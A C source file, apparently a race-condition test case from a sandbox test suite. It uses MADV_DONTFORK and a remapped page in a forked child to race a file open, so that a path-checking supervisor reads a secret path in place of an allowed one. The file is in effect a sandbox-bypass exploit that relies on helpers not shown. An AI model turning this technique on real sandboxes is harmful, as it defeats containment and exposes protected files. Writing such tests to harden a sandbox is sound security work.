/* SPDX-License-Identifier: GPL-3.0-or-later */
/* MADV_DONTFORK over a range that begins below the landing page, where nothing is mapped: the
 * kernel goes on to what is. The child then has the addresses for itself. */
#include "race.h"

static char *lowest, *end;
static char stack[65536] __attribute__((aligned(16)));

static void note(char *start, size_t size)
{
        if (!lowest || start < lowest)
                lowest = start;
        if (start + size > end)
                end = start + size;
}

static int read_what_comes(void *unused)
{
        return take_descriptors(unused) != NULL;
}

static void open_with_own_page(void)
{
        size_t size = (size_t) (end - lowest);

        if (mmap(lowest, size, PROT_READ | PROT_WRITE,
                 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0) != (void *) lowest)
                return;
        for (size_t offset = 0; offset + PATH_MAX <= size; offset += PATH_MAX)
                strcpy(lowest + offset, secret_path());
        /* not as a thread: clone3 would be read from our page, too */
        prepare_second_reader();
        clone(read_what_comes, stack + sizeof(stack), CLONE_VM | CLONE_FILES | SIGCHLD, NULL);
        race_open(allowed_path(), ROUNDS);
        race_over = true;
        wait_all();
}

int main(void)
{
        if (each_foreign_mapping("r", note) == 0)
                supervisor_pid();
        for (long below = 4096; below <= 65536; below += 61440)
                madvise(lowest - below, (size_t) (end - lowest + below), MADV_DONTFORK);
        if (fork() == 0) {
                open_with_own_page();
                _exit(0);
        }
        wait_all();
        return 0;
}
